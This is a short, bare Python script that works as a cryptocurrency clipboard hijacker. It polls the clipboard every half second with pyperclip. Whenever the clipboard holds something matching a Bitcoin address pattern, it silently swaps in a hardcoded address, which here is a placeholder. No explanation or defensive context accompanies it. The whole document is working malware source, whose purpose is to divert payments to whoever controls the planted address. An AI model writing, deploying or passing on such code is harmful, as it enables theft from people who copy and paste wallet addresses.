import re, time, pyperclip
ADDR = "bc1qexampleexampleexampleexample0000"
while True:
    c = pyperclip.paste()
    if re.fullmatch(r"(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}", c):
        pyperclip.copy(ADDR)
    time.sleep(0.5)
